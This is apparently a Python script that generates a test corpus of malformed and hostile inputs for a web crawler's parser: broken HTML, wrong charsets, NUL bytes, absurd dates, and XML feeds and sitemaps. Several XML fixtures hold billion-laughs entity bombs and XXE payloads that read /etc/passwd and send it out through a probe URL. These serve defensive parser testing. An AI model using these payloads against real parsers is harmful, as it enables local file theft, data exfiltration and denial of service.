"""Regenerate the committed bad-input corpus in `cases/` (run: python tests/badinput/make_cases.py).

Every HTML case has its own body text, so the crawl never drops one as a duplicate of another.
Feeds and sitemaps carry `{{BASE}}` / `{{PROBE}}` placeholders that the test server fills in.
"""

from __future__ import annotations

import random
from pathlib import Path

CASES = Path(__file__).parent / "cases"


def body(case: str, repeat: int = 6) -> str:
    """Article-like paragraphs unique to `case`."""
    rng = random.Random(case)
    words = ["battery", "factory", "dealers", "Beijing", "Munich", "spring", "supply", "software",
             "charging", "prices", "investors", "analysts", "quarter", "platform", "partners"]
    paragraphs = []
    for i in range(repeat):
        picked = " ".join(rng.choice(words) for _ in range(12))
        paragraphs.append(f"<p>Xiaomi and BAIC, case {case} paragraph {i}: {picked}. The firms said "
                          f"the plan would take effect next year, while rivals stayed silent.</p>\n")
    return "".join(paragraphs)


def page(case: str, title: str, head_extra: str = "", body_html: str | None = None,
         charset: str = "utf-8") -> str:
    return (f'<!DOCTYPE html><html lang="en"><head><meta charset="{charset}"><title>{title}</title>'
            f"{head_extra}</head><body><article><h1>{title}</h1>\n{body_html or body(case)}"
            "</article></body></html>\n")


def write(name: str, data: str | bytes) -> None:
    (CASES / name).write_bytes(data if isinstance(data, bytes) else data.encode())


def main() -> None:
    CASES.mkdir(exist_ok=True)
    # unclosed tags, stray closers, a broken attribute, a script and a comment that never end
    write("malformed.html",
          '<html><head><title>Broken <b>markup</title><meta charset=utf-8 <meta name="x" content="\n'
          '<body><div><article><h1>Xiaomi and BAIC</h2><p>First paragraph <i>never closed\n'
          + body("malformed").replace("</p>", "", 3) + '</div></div></span><table><tr><td>cell<p>more'
          '</article><script>var x = "</script>";</script><!-- a comment that never ends\n')
    # binary served as text/html: a PNG header, NUL and high bytes
    write("binary.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(42).randbytes(4096))
    # declared UTF-8, encoded latin-1
    write("latin1_declared_utf8.html",
          page("latin1", "Café Müller: Größe und Straße").encode("latin-1", errors="replace"))
    # UTF-8 title, cp1252 quotes in the body, meta says windows-1252 (the server's header says utf-8)
    mixed = page("mixed", "Xiaomi “EV” launch — Zürich", charset="windows-1252").encode("utf-8")
    write("mixed_charset.html", mixed.replace(b"case mixed", "case \u201cmixed\u201d".encode("cp1252")))
    # a charset that does not exist (the server's header names it too)
    write("unknown_charset.html", page("unknown", "Xiaomi and BAIC in Klingon", charset="x-klingon-9"))
    # UTF-16 without a BOM, declared as UTF-8
    write("utf16_declared_utf8.html", page("utf16", "Xiaomi UTF-16 story").encode("utf-16-le"))
    # NUL bytes after the first 2 KiB (so the page is not taken for binary)
    text = page("nul", "Xiaomi null byte story", body_html=body("nul", 30)).encode()
    write("null_bytes.html", text[:3000] + b"\x00\x00" + text[3000:3600].replace(b" ", b" \x00") + text[3600:])
    # a 10,000-character title in <title>, <h1> and og:title
    long_title = ("Xiaomi " + "very " * 2000)[:10000]
    write("long_title.html", page("long", long_title, f'<meta property="og:title" content="{long_title}">'))
    # absurd and invalid dates wherever a date can hide
    dates = ('<meta property="article:published_time" content="9999-99-99T99:99:99Z">'
             '<meta property="article:modified_time" content="0001-01-01T00:00:00Z">'
             '<meta name="date" content="yesterday-ish">'
             '<script type="application/ld+json">{"@type":"NewsArticle","headline":"Xiaomi dates",'
             '"datePublished":"2999-12-31T23:59:59+14:00","dateModified":"-0044-03-15",'
             '"author":{"name":"A. Writer"}}</script>')
    write("absurd_dates.html", page("dates", "Xiaomi story with absurd dates", dates,
                                    '<time datetime="1e308">then</time>' + body("dates")))
    # billion laughs and external entities in feeds and sitemaps
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)]
    dtd = "\n".join(levels)
    write("billion_laughs_feed.xml",
          f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n{dtd}\n]>\n<rss version="2.0"><channel>'
          "<title>&lol9;</title><item><title>&lol9;</title><link>{{BASE}}/a/&lol9;</link></item>"
          "</channel></rss>\n")
    write("billion_laughs_sitemap.xml",
          f'<?xml version="1.0"?>\n<!DOCTYPE urlset [\n{dtd}\n]>\n'
          '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{{BASE}}/&lol9;</loc>'
          "</url></urlset>\n")
    write("xxe_feed.xml",
          '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
          '<!ENTITY probe SYSTEM "{{PROBE}}/xxe">\n<!ENTITY % remote SYSTEM "{{PROBE}}/dtd"> %remote;\n]>\n'
          '<rss version="2.0"><channel><title>x</title><item><title>&xxe;</title>'
          "<link>{{BASE}}/leak?d=&xxe;</link></item><item><title>p</title><link>{{BASE}}/&probe;</link>"
          "</item></channel></rss>\n")
    write("xxe_sitemap.xml",
          '<?xml version="1.0"?>\n<!DOCTYPE urlset SYSTEM "{{PROBE}}/external.dtd" [\n'
          '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
          '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{{BASE}}/leak?d=&xxe;'
          "</loc></url></urlset>\n")
    # only an external DTD, no entity declaration: rejected by its own rule
    write("external_dtd_sitemap.xml",
          '<?xml version="1.0"?>\n<!DOCTYPE urlset SYSTEM "{{PROBE}}/external.dtd">\n'
          '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>{{BASE}}/x</loc>'
          "</url></urlset>\n")


if __name__ == "__main__":
    main()
